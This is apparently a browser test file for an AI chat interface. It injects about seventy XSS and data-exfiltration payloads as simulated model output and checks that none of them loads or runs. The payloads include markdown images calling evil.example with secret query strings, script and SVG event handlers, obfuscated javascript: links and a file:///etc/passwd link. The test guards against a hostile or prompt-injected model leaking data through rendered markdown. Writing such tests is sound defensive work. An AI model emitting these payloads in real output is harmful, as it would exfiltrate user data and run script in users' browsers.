import { expect, it } from "vitest";
import { say } from "#local/bedrock/faults.ts";
import { browserOnTwin } from "#test/support/browser-on-twin.ts";
import { send, signIn, turns } from "#test/support/browser-visit.ts";

const host = "https://evil.example";
const js = "javascript:document.title='taken'";

/** What a hostile model, or a page that it has read, would write to reach out or to run. */
const payloads = [
  // Images in every form.
  `![a](${host}/1.png)`,
  `![a](${host}/?q=secret "title")`,
  `![a](<${host}/2.png>)`,
  `![a](//evil.example/3.png)`,
  `![a](/api/logout)`,
  `![a](data:image/svg+xml,<svg onload=${js}>)`,
  `![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
  `![a][r]\n\n[r]: ${host}/4.png`,
  `![r][]\n\n[r]: ${host}/5.png`,
  `![r]\n\n[r]: ${host}/6.png`,
  `[![a](${host}/7.png)](${host})`,
  `| ![a](${host}/8.png) |\n|---|\n| ![b](${host}/9.png) |`,
  `> ![a](${host}/10.png)`,
  `- ![a](${host}/11.png)`,
  `# ![a](${host}/12.png)`,
  `![${"x".repeat(500)}](${host}/13.png)`,
  // HTML that loads.
  `<img src=${host}/14.png>`,
  `<img src=x onerror=${js}>`,
  `<img srcset="${host}/15.png 2x">`,
  `<picture><source srcset=${host}/16.png></picture>`,
  `<video src=${host}/17.mp4 autoplay poster=${host}/18.png>`,
  `<audio src=${host}/19.mp3 autoplay>`,
  `<iframe src=${host}></iframe>`,
  `<iframe srcdoc="<script>parent.document.title='taken'</script>"></iframe>`,
  `<object data=${host}></object>`,
  `<embed src=${host}>`,
  `<link rel=stylesheet href=${host}/20.css>`,
  `<link rel=prefetch href=${host}>`,
  `<link rel=dns-prefetch href=//evil.example>`,
  `<style>@import "${host}/21.css"; body { background: url(${host}/22.png) }</style>`,
  `<div style="background:url(${host}/23.png)">x</div>`,
  `<table background=${host}/24.png><tr><td>x</table>`,
  `<meta http-equiv=refresh content="0;url=${host}">`,
  `<base href=${host}>`,
  `<form action=${host}><button autofocus>x</button></form>`,
  `<input type=image src=${host}/25.png>`,
  // HTML and SVG that run.
  `<script>document.title='taken'</script>`,
  `<script src=${host}/26.js></script>`,
  `<SCRIPT/SRC="${host}/27.js"></SCRIPT>`,
  `<svg onload=document.title='taken'>`,
  `<svg><script>document.title='taken'</script></svg>`,
  `<svg><image href=${host}/28.png /></svg>`,
  `<svg><use href="${host}/29.svg#x" /></svg>`,
  `<svg><animate onbegin=document.title='taken' attributeName=x dur=1s>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=document.title='taken'>`,
  `<details open ontoggle=document.title='taken'>x</details>`,
  `<input autofocus onfocus=document.title='taken'>`,
  `<body onload=document.title='taken'>`,
  `<marquee onstart=document.title='taken'>x</marquee>`,
  `<template><script>document.title='taken'</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=document.title='taken'>">`,
  `<!--><img src=x onerror=document.title='taken'>-->`,
  `<![CDATA[><img src=x onerror=document.title='taken'>]]>`,
  // Links.
  `[a](${js})`,
  `[a](JaVaScRiPt:document.title='taken')`,
  `[a](java\tscript:document.title='taken')`,
  `[a](&#106;avascript:document.title='taken')`,
  `[a](javascript&colon;document.title='taken')`,
  `[a](\u0001javascript:document.title='taken')`,
  `[a](vbscript:x)`,
  `[a](data:text/html,<script>document.title='taken'</script>)`,
  `[a](blob:${host}/1)`,
  `[a](file:///etc/passwd)`,
  `[a](/api/logout)`,
  `[a][j]\n\n[j]: ${js}`,
  `<${js}>`,
  `[^1]\n\n[^1]: <img src=${host}/30.png>`,
  // Code.
  "```html\n<img src=x onerror=document.title='taken'>\n```",
  "```<img/src=x/onerror=document.title='taken'>\nx\n```",
  "```js\n</code></pre><script>document.title='taken'</script>\n```",
  "```xml\n<svg onload=document.title='taken'>&lt;script&gt;</svg>\n```",
  "`<img src=x onerror=document.title='taken'>`",
];

const here = browserOnTwin();

it("a model that writes all that is known to be hostile reaches nobody and runs nothing", async () => {
  expect(payloads.length).toBeGreaterThan(60);
  const { page, complaints } = await here.visit();
  await signIn(page, here.twin.password);
  // A few in each turn: one answer has room for 16 KB, and an unclosed payload swallows the rest of its block.
  const perTurn = 15;
  for (let first = 0; first < payloads.length; first += perTurn) {
    const some = payloads.slice(first, first + perTurn);
    here.twin.parts.bedrock.faults.add(
      say(some.map((payload) => `${payload}\n\nnext\n\n`).join("")),
    );
    await send(page, "Hello");
    await turns(page)
      .nth(first / perTurn)
      .getByText("Demo model ·")
      .waitFor();
  }
  const found = await page.evaluate(() => ({
    title: document.title,
    elements: document.querySelectorAll(
      "main :is(img, picture, video, audio, iframe, object, embed, link, style, script, svg, math, form, meta, base, template, marquee, [style], [background])",
    ).length,
    links: [...document.querySelectorAll("main a")].map((link) => ({
      href: link.getAttribute("href") ?? "",
      rel: link.getAttribute("rel"),
    })),
  }));
  expect(found.title).toBe("Enterprise Agentic AI");
  expect(found.elements).toBe(0);
  expect(found.links.length).toBeGreaterThan(0);
  for (const { href, rel } of found.links) {
    expect(href).toMatch(/^(https?|mailto):/);
    expect(rel).toBe("noopener noreferrer nofollow");
  }
  expect(complaints).toEqual([]);
});
